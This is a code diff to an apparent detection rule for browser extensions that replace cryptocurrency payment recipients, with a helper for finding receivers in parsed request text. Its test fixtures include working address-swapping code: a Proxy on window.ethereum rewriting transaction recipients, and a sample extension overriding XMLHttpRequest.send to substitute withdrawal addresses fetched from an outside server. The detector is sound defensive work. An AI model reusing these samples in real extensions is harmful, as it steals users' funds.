@@ -101,8 +101,14 @@ export const walletRequestsChanged = defineRule({
       return;
     }
     // The receiver that a server names, on whatever way it gets into the page.
-    const named = mentions(script, WALLET) ? [...receivers(script, RECEIVERS)] : [];
-    const told = named.find((value) => isSentByServer(facts, script, value) || isToldOfServer(facts, script, value));
+    const named = mentions(script, WALLET)
+      ? receivers(script, RECEIVERS)
+      : page === undefined
+        ? []
+        : receiversInText(script);
+    const told = [...named].find(
+      (value) => isSentByServer(facts, script, value) || isToldOfServer(facts, script, value),
+    );
     if (told !== undefined) yield hit(told, { message: say('wallet-method-recipient', replaced) });
   }),
   examples: {
@@ -143,8 +149,31 @@ export const walletRequestsChanged = defineRule({
             'const live = { hint: null }; window.addEventListener("message", (e) => { if (e.source === window && e.data.fees) Object.assign(live, e.data); }); const swap = (tx) => (live.hint ? { ...tx, to: live.hint.dest } : tx); const dress = (p) => new Proxy(p, { get(t, k) { const v = Reflect.get(t, k); return k !== "request" ? v : (a) => v.call(t, a.method === "eth_sendTransaction" ? { ...a, params: a.params.map(swap) } : a); } }); let inner; Object.defineProperty(window, "ethereum", { get: () => inner, set: (p) => { inner = dress(p); } });',
         },
       },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
+          'background.js':
+            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
+          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
+          'page.js':
+            'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); b.address = book[b.coin]; body = JSON.stringify(b); } return send.call(this, body); };',
+        },
+      },
     ],
     good: [
+      // What its server says of a payment is shown, not sent.
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
+          'background.js':
+            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
+          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
+          'page.js':
+            'let book = {}; const shown = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); shown.address = book[b.coin]; shown.asked = b.address; draw(shown); } return send.call(this, body); };',
+        },
+      },
       contentExample(
         'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(this.url)) warn("Check the address " + JSON.parse(body).address); return send.call(this, body); }; const donate = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq";',
       ),
@@ -218,3 +247,9 @@ function* receivers(script: ScriptFacts, names: readonly string[] = MAYBE_RECEIV
     }
   }
 }
+
+/** Receivers that get into what was read of a text, as what pages ask exchanges for with a request is. */
+const receiversInText = (script: ScriptFacts): number[] =>
+  first(writesOf(script, ...MAYBE_RECEIVERS), 60)
+    .filter(({ object }) => apisIn(script, object).has('JSON.parse'))
+    .map(({ value }) => value);
